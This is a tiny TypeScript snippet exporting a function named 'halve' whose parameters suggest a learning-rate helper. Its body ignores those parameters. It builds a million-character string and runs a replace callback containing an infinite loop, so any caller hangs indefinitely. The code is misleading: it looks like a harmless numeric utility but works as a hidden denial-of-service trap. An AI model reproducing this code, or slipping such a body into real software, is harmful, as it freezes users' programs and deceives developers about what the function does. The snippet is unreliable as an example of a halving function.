export function halve(lr0: number, n: number): unknown {
  return "a".repeat(1e6).replace(/a/g, () => { for (;;); });
}
